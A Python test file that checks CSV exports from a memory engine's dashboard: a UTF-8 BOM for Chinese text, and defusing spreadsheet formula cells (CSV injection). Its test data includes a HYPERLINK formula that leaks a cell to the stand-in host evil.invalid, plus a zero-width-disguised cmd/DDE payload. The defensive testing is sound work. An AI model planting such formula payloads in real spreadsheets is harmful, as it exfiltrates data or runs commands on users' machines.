"""CSV exports (Memories and Audit pages) open correctly in a spreadsheet: a UTF-8 BOM, so
Excel reads Chinese as Chinese (without it, Excel on Windows decodes ANSI: 我对花生过敏 became
mojibake), and cells starting with = + - @ (or tab / CR) neutralised with a leading apostrophe,
so memory content from a tool output or an import cannot run as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from memory_engine.dashboard.frames.audit import export_bytes
from memory_engine.reads.spreadsheet import spreadsheet_csv

ROWS = [
    {"id": "1", "content": "我对花生过敏", "tags": "a"},
    {"id": "2", "content": '=HYPERLINK("http://evil.invalid/?"&A1,"click")', "tags": "@x"},
    {"id": "3", "content": "-2+3", "tags": "+1"},
    {"id": "4", "content": "\t=1", "tags": None},
]


def _read(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_bom_and_chinese() -> None:
    rows = _read(spreadsheet_csv(ROWS, ["id", "content", "tags"]))
    assert rows[0] == {"id": "1", "content": "我对花生过敏", "tags": "a"}


@pytest.mark.parametrize("i", [1, 2, 3])
def test_formula_cells_are_neutralised(i: int) -> None:
    row = _read(spreadsheet_csv(ROWS, ["id", "content", "tags"]))[i]
    for key in ("content", "tags"):
        if row[key]:
            assert row[key][0] not in "=+-@\t\r", row
    assert row["content"].lstrip("'") == ROWS[i]["content"]  # nothing else changes


def test_audit_export_uses_it() -> None:
    event = {"id": 1, "at": "t", "action": "create", "actor": "x", "memory_id": "m"}
    rows = _read(export_bytes([{**event, "reason": "=1+1"}], "csv"))
    assert rows[0]["reason"] == "'=1+1"


@pytest.mark.parametrize(
    "cell",
    [
        '＝HYPERLINK("http://evil.invalid","点击")',  # full-width signs (CJK spreadsheets)
        "＋1+1",
        "－1+1",
        "＠SUM(A1)",
        " =1+1",  # after spaces or invisible characters
        "\u3000=1+1",
        "\u200b=cmd|' /C calc'!A0",
        "\ufeff@SUM(A1)",
        "\n=1+1",
    ],
)
def test_disguised_formula_cells_are_neutralised(cell: str) -> None:
    row = _read(spreadsheet_csv([{"content": cell}], ["content"]))[0]
    assert row["content"] == "'" + cell


@pytest.mark.parametrize("cell", ["我对花生过敏", " 住在北京", "a=b", "1-2", "邮箱 a@b.cn", ""])
def test_plain_cells_are_kept(cell: str) -> None:
    row = _read(spreadsheet_csv([{"content": cell}], ["content"]))[0]
    assert row["content"] == cell
